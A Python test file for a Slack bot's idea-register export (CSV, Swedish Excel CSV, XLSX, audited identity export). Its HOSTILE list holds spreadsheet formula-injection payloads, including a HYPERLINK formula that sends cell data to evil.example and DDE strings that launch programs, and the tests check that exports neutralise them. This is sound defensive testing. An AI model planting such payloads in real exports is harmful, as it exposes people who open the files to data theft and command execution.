"""Records for the diarium: json, csv (excel-sv too) and xlsx; nothing runs as a formula; identities only when
asked for, and that is audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.core import Core
from storage.db import Database
from storage.models import Idea
from tests.records.conftest import AGNES, AGNES_ID, AGNES_NAME, BERTIL, COACH, audit_rows

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1;"klicka")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_ideas(core: Core, db: Database) -> None:
    for title in HOSTILE:
        core.handle_command(BERTIL, title)
    core.handle_command(BERTIL, "\t=1+1")  # the leading tab is trimmed on the way in: stored as "=1+1"
    with db.session() as session:  # a row from before the trimming, or written by another tool
        session.execute(update(Idea).where(Idea.number == 1).values(unit="\t=1+1", problem="\r=2+2"))


def test_formula_shaped_text_exports_inert_in_csv(cli, hostile_ideas):
    result = cli("ideas", "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE] + ["'=1+1"]
    assert (rows[0]["unit"], rows[0]["problem"]) == ("'\t=1+1", "'\r=2+2")
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_excel_sv_is_semicolon_separated_with_a_byte_order_mark(cli, core):
    core.handle_command(AGNES, "Ärendehantering för äldreomsorgen; snabbare")
    result = cli("ideas", "export", "--format", "csv", "--dialect", "excel-sv")
    assert result.stdout.startswith("\ufeffid;number;title;")
    (row,) = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff")), delimiter=";"))
    assert row["title"] == "Ärendehantering för äldreomsorgen; snabbare"
    assert cli("ideas", "export", "--format", "json", "--dialect", "excel-sv").exit_code == 2


def test_formula_shaped_text_exports_inert_in_xlsx_opened_with_openpyxl(cli, hostile_ideas, tmp_path):
    out = tmp_path / "diarium.xlsx"
    result = cli("ideas", "export", "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    title, unit, created = header.index("title") + 1, header.index("unit") + 1, header.index("created_at") + 1
    assert [sheet.cell(row=r, column=title).value for r in range(2, 7)] == ["'" + t for t in HOSTILE] + ["'=1+1"]
    assert sheet.cell(row=2, column=unit).value == "'\t=1+1"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert sheet.cell(row=2, column=created).is_date  # times are date cells, in the organisation's time zone
    assert cli("ideas", "export", "--format", "xlsx").exit_code == 2  # a workbook needs --out


def test_without_identities_the_anonymous_author_is_empty_with_them_present_and_audited(cli, db, anonymous_idea):
    plain = json.loads(cli("ideas", "export", "--format", "json").stdout)
    assert (plain[0]["author"], plain[0]["author_name"], plain[0]["anonymous"]) == (None, None, True)
    assert AGNES_ID not in json.dumps(plain)
    named = json.loads(cli("ideas", "export", "--format", "json", "--with-identities").stdout)
    assert (named[0]["author"], named[0]["author_name"]) == (f"slack:{AGNES_ID}", AGNES_NAME)

    exports = audit_rows(db, "ideas.export")
    assert [json.loads(e.detail)["with_identities"] for e in exports] == [False, True]
    assert all(e.via == "cli" and e.operator and e.actor_id is None for e in exports)
    assert json.loads(exports[1].detail)["ideas"] == 1


def test_the_export_carries_the_decision_received_time_and_only_what_changed_since(cli, core, db, clock, staff):
    core.handle_command(AGNES, "Äldre idé")
    clock.advance(10 * 86400)
    core.handle_command(BERTIL, "Nyare idé")
    core.handle_command(COACH, "status 1 avslutad Ingår redan i ordinarie verksamhet")
    rows = {r["number"]: r for r in json.loads(cli("ideas", "export").stdout)}
    declined = rows[1]
    assert (declined["decision_stage"], declined["decision_reason"], declined["decided_by_role"]) == (
        "declined", "Ingår redan i ordinarie verksamhet", "coach")
    assert declined["decided_at"] == clock.now().astimezone(UTC).isoformat()
    assert declined["received_at"] == declined["created_at"] == (clock.now() - timedelta(days=10)).astimezone(
        UTC).isoformat()
    assert rows[2]["decision_stage"] is None

    since = (clock.now() - timedelta(days=1)).date().isoformat()
    recent = json.loads(cli("ideas", "export", "--since", since).stdout)
    assert [r["number"] for r in recent] == [1, 2]  # idea 1 is old but was changed (declined) since
    core.handle_command(AGNES, "ångra 1")
    assert [r["number"] for r in json.loads(cli("ideas", "export").stdout)] == [2]
    withdrawn = json.loads(cli("ideas", "export", "--include-withdrawn").stdout)
    assert [r["number"] for r in withdrawn] == [1, 2] and withdrawn[0]["withdrawn_at"]
    assert cli("ideas", "export", "--since", "förra veckan").exit_code == 2
    assert json.loads(cli("ideas", "export", "--organisation", "testkommun").stdout)[0]["number"] == 2
    assert cli("ideas", "export", "--organisation", "finns-inte").exit_code == 2
